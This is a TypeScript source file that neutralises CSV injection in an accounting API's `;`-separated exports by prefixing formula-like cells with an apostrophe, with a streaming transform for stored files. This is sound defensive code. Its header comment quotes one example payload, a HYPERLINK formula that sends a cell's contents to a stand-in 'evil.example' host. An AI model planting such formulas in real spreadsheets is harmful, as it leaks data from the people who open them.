import { StringDecoder } from 'node:string_decoder';
import { Transform } from 'node:stream';

/**
 * The one way a CSV leaves the API (FEC table, a control's detail, diagnostics, the corrections log):
 * `;`-separated for French spreadsheets, and no cell a spreadsheet would run. A FEC's label or a company
 * name such as `=HYPERLINK("http://evil.example/?x="&A1;"…")` is someone else's text: a cell starting
 * with = + - @, a tab or a carriage return gets a leading apostrophe, so it is shown, never computed
 * (OWASP's "CSV injection"). A plain negative number (`-1234,56`) stays a number.
 */

const FORMULA_START = /^[=+\-@\t\r]/;
/** `-12`, `-1234,56`, `-1 234.5`: a figure, not a formula. */
const NEGATIVE_NUMBER = /^-\d[\d \u00a0\u202f]*(?:[.,]\d+)?$/;

/** The text as a spreadsheet may show it: a leading apostrophe before what would be a formula. */
export function inertText(text: string): string {
  return FORMULA_START.test(text) && !NEGATIVE_NUMBER.test(text) ? `'${text}` : text;
}

/** One CSV cell: made inert, then quoted when it holds the separator, a quote or a line break. */
export function csvCell(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return '';
  const text = inertText(String(value));
  return /[;"\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One CSV record, CRLF-terminated. */
export function csvRecord(values: ReadonlyArray<string | number | null | undefined>): string {
  return values.map(csvCell).join(';') + '\r\n';
}

/**
 * A stored `;` CSV (written by the engine or an analysis, its fields only quoted) re-emitted record by
 * record through csvCell on its way out: files stored before this rule, and those the engine writes
 * (it knows nothing of spreadsheets), come out inert too. A leading BOM passes through. Idempotent: an
 * inert cell stays as it is.
 */
export function inertCsv(): Transform {
  const decoder = new StringDecoder('utf8');
  let started = false;
  let fields: string[] = [];
  let field = '';
  let quoted = false; // inside a quoted field
  let afterQuote = false; // the last char was a quote inside a quoted field (an escape or the end)
  let pendingCr = false;

  const parse = (text: string): string => {
    let out = '';
    const endRecord = () => {
      fields.push(field);
      out += csvRecord(fields);
      fields = [];
      field = '';
    };
    for (let i = 0; i < text.length; i++) {
      const c = text[i];
      if (quoted) {
        if (afterQuote) {
          afterQuote = false;
          if (c === '"') {
            field += '"';
            continue;
          }
          quoted = false; // the closing quote: fall through to the unquoted handling of c
        } else {
          if (c === '"') afterQuote = true;
          else field += c;
          continue;
        }
      }
      if (pendingCr) {
        pendingCr = false;
        if (c === '\n') continue;
      }
      if (c === '"' && field === '') quoted = true;
      else if (c === ';') {
        fields.push(field);
        field = '';
      } else if (c === '\r' || c === '\n') {
        endRecord();
        pendingCr = c === '\r';
      } else field += c;
    }
    return out;
  };

  return new Transform({
    transform(chunk: Buffer | string, _encoding, callback) {
      let text = typeof chunk === 'string' ? chunk : decoder.write(chunk);
      let bom = '';
      if (!started && text.length > 0) {
        started = true;
        if (text.startsWith('\uFEFF')) {
          bom = '\uFEFF';
          text = text.slice(1);
        }
      }
      callback(null, bom + parse(text));
    },
    flush(callback) {
      let out = parse(decoder.end());
      if (quoted && afterQuote) quoted = afterQuote = false;
      if (field !== '' || fields.length > 0) {
        fields.push(field);
        out += csvRecord(fields);
      }
      callback(null, out);
    },
  });
}
